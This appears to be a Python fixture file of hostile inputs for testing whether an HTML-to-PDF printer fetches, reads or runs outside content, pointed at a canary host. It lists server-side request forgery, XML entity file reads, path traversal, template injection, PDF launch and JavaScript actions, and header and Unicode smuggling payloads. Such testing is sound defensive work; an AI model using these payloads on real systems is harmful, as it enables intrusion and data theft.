"""What people with bad intent would type, so that the printer fetches, reads or runs something.

``@web@`` stands for the address of a listening canary, ``@turn@`` for one that redirects to it, ``@file@`` for the path
of a planted text, ``@image@`` for that of a planted picture.
"""

IMAGES = {
    "image by http": '<img src="http://@web@/a.png" alt="a">',
    "image by https": '<img src="https://@web@/a.png" alt="a">',
    "image by ftp": '<img src="ftp://@web@/a.png" alt="a">',
    "image without scheme": '<img src="//@web@/a.png" alt="a">',
    "image in capitals": '<IMG SRC="HTTP://@web@/a.png" ALT="a">',
    "image behind a redirect": '<img src="http://@turn@/a.png" alt="a">',
    "image by name of the host": '<img src="http://localhost:@port@/a.png" alt="a">',
    "image by decimal address": '<img src="http://2130706433:@port@/a.png" alt="a">',
    "image by mapped address": '<img src="http://[::ffff:127.0.0.1]:@port@/a.png" alt="a">',
    "image with a password": '<img src="http://user:word@@web@/a.png" alt="a">',
    "image of the disk": '<img src="file://@image@" alt="a">',
    "image of the disk, one slash": '<img src="file:@image@" alt="a">',
    "image of the disk by host": '<img src="FILE://localhost@image@" alt="a">',
    "image by path": '<img src="@image@" alt="a">',
    "image of a share": '<img src="\\\\@web@\\share\\a.png" alt="a">',
    "image by gopher": '<img src="gopher://@web@/1a.png" alt="a">',
    "image set": '<img srcset="http://@web@/a.png 1x, file://@image@ 2x" alt="a">',
    "picture": '<picture><source srcset="http://@web@/a.png"><img src="file://@image@" alt="a"></picture>',
    "breaking out of an attribute": '"><img src="http://@web@/a.png" alt="a">',
    "breaking out of an attribute, single quotation mark": "' onload='x' style='background:url(http://@web@/a.png)'",
    "event": '<img src="x" onerror="fetch(\'http://@web@/a\')" alt="a">',
}
DATA_ADDRESSES = {
    "drawing with an outer image": (
        '<img alt="a" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'>'
        "<image href='http://@web@/a.png' width='9' height='9'/></svg>\">"
    ),
    "drawing with an entity": (
        '<img alt="a" src="data:image/svg+xml,<!DOCTYPE s [<!ENTITY e SYSTEM \'file://@file@\'>]>'
        "<svg xmlns='http://www.w3.org/2000/svg'><text y='9'>&e;</text></svg>\">"
    ),
    "drawing with a style sheet": (
        '<img alt="a" src="data:image/svg+xml,<?xml-stylesheet href=\'http://@web@/a.css\'?>'
        "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(http://@web@/b.css);</style></svg>\">"
    ),
    "page in a data address": '<iframe src="data:text/html,<img src=http://@web@/a.png>"></iframe>',
    "sheet in a data address": '<link rel="stylesheet" href="data:text/css,@import url(http://@web@/a.css);">',
}
STYLES = {
    "imported sheet": '<style>@import url("http://@web@/a.css");</style>',
    "imported sheet of the disk": '<style>@import "file://@file@";</style>',
    "background": "</style><style>p, td, body { background: url(http://@web@/a.png) }</style>",
    "background of the page": "<style>@page { background: url(file://@image@) }</style>",
    "type face": "<style>@font-face { font-family: q; src: url(http://@web@/a.ttf) } p { font-family: q }</style>",
    "content": "<style>p::before { content: url(file://@image@) }</style>",
    "escaped url": "<style>p { background: \\75rl(http://@web@/a.png) }</style>",
    "bare rule": "} p { background: url(http://@web@/a.png) } @import url(http://@web@/a.css); {",
    "style attribute": '<p style="background: url(http://@web@/a.png)">a</p>',
    "style attribute of a list": '<ul style="list-style-image: url(file://@image@)"><li>a</li></ul>',
    "shape": '<p style="float: left; shape-outside: url(http://@web@/a.png)">a</p>',
}
OTHER_ELEMENTS = {
    "sheet by link": '<link rel="stylesheet" href="http://@web@/a.css">',
    "sheet of the disk by link": '<link rel="stylesheet" href="file://@file@">',
    "attachment of the disk": '<link rel="attachment" href="file://@file@" title="a">',
    "attachment by http": '<link rel="attachment" href="http://@web@/a.bin">',
    "attachment behind a link": '<a rel="attachment" href="file://@file@">a</a>',
    "icon": '<link rel="icon" href="http://@web@/a.ico"><link rel="preload" as="image" href="http://@web@/a.png">',
    "frame": '<iframe src="http://@web@/a.html"></iframe>',
    "object": '<object data="file://@image@" type="image/png"></object>',
    "embedded file": '<embed src="file://@image@" type="image/png">',
    "film": '<video poster="http://@web@/a.png" src="http://@web@/a.mp4"></video>',
    "button": '<input type="image" src="http://@web@/a.png">',
    "background attribute": '<table background="http://@web@/a.png"><tr><td background="file://@image@">a</td></tr></table>',
    "drawing in the text": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'
        '<image xlink:href="file://@image@" width="90" height="90"/><use xlink:href="http://@web@/a.svg#a"/></svg>'
    ),
    "drawing with a sheet in the text": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import url(http://@web@/a.css);</style>'
        '<rect width="9" height="9" fill="url(http://@web@/a.svg#a)"/></svg>'
    ),
    "formula": '<math href="http://@web@/a"><mglyph src="http://@web@/a.png"/></math>',
    "inclusion": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@file@" parse="text"/>',
    "script": "<script src=\"http://@web@/a.js\"></script><script>fetch('http://@web@/a')</script>",
    "form": '<form action="http://@web@/a"><input name="a" value="b"><button>a</button></form>',
}
OF_THE_HEAD = {
    "base": '<base href="http://@web@/"><img src="a.png" alt="a">',
    "refresh": '<meta http-equiv="refresh" content="0; url=http://@web@/">',
    "instruction for a sheet": '<?xml-stylesheet type="text/xsl" href="http://@web@/a.xsl"?>',
    "entity": '<!DOCTYPE r [<!ENTITY e SYSTEM "file://@file@">]><p>&e;</p>',
    "entity of a parameter": '<!DOCTYPE r [<!ENTITY % e SYSTEM "http://@web@/a.dtd"> %e;]><p>a</p>',
    "document type by address": '<!DOCTYPE html PUBLIC "a" "http://@web@/a.dtd">',
}
ASSETS = {
    "asset that does not exist": '<img src="bsp-asset:secret.svg" alt="a">',
    "asset outside": '<img src="bsp-asset:../../../../../..@image@" alt="a">',
    "asset outside, encoded": '<img src="bsp-asset:%2e%2e%2f%2e%2e%2f..@image@" alt="a">',
    "asset by path": '<img src="bsp-asset:@image@" alt="a">',
    "asset of a host": '<img src="bsp-asset://@web@/a.png" alt="a">',
    "asset in capitals": '<img src="BSP-ASSET:@image@" alt="a">',
    "asset with an end": '<img src="bsp-asset:secret.png%00.svg" alt="a">',
}
SWALLOWING = {
    "comment without end": '<!-- <img src="http://@web@/a.png">',
    "end of a comment": '--><img src="http://@web@/a.png" alt="a">',
    "character data": '<![CDATA[<img src="http://@web@/a.png">]]>',
    "plain text element": '<plaintext><img src="http://@web@/a.png">',
    "text area": '<textarea><img src="http://@web@/a.png">',
    "title element": '</title><img src="http://@web@/a.png" alt="a"><title>',
}
LINKS = {
    "script in a link": "<a href=\"javascript:app.launchURL('http://@web@/')\">a</a>",
    "program behind a link": '<a href="file://@file@">a</a>',
    "link of plain text": "![a](http://@web@/a.png) [a](javascript:alert(1)) http://@web@/a",
}
WORDS = {
    "template variable": "{{ settings.SECRET_KEY }} {{ request.META }} {{ document.masthead }}",
    "template tag": '{% include "@file@" %}{% load log %}{% debug %}',
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {0.__class__.__init__.__globals__} %(secret)s",
    "full-width signs": "\uff1cimg src\uff1d\uff02http://@web@/a.png\uff02\uff1e",
    "entities": "&lt;img src=&quot;http://@web@/a.png&quot;&gt; &#60;img src=http://@web@/b.png&#x3e;",
    "encoded signs": "%3Cimg src=http://@web@/a.png%3E \\u003cimg src=http://@web@/a.png\\u003e +ADw-img+AD4-",
    "action in the file": "(a) Tj ET\nendobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj",
    "program in the file": ") >> /AA << /O << /S /Launch /F (@file@) >> >> /URI (http://@web@/) (",
    "attachment in the file": "stream\n/EmbeddedFile /Filespec (@file@)\nendstream",
    "formula of a spreadsheet": '=HYPERLINK("http://@web@/a")',
    "form feed": "a\fb\vc",
    "control characters": "a\x01<\x02img src=http://@web@/a.png\x1b[31m\x7f>",
    "header line": "a\r\nLocation: http://@web@/\r\n\r\nb",
    "reordered text": "a\u202egnp.a/@web@//:ptth\u202c \u2066b\u2069",
    "reordered text without end": "a \u202e<img src=http://@web@/a.png>",
    "invisible signs": "<i\u200bmg s\u00adrc=http://@web@/a.png>\u2060\u200e",
    "line separator": "a\u2028<img src=http://@web@/a.png>\u2029b",
    "description of the file": '"/></rdf:Description><x:xmpmeta xmlns:x="http://@web@/">]]>&e;',
}
# As typed, these are elements of a page: the second wall, the printer itself, is tested with them.
MARKUP = {**IMAGES, **DATA_ADDRESSES, **STYLES, **OTHER_ELEMENTS, **ASSETS, **LINKS}
PAYLOADS = {**MARKUP, **OF_THE_HEAD, **SWALLOWING, **WORDS}
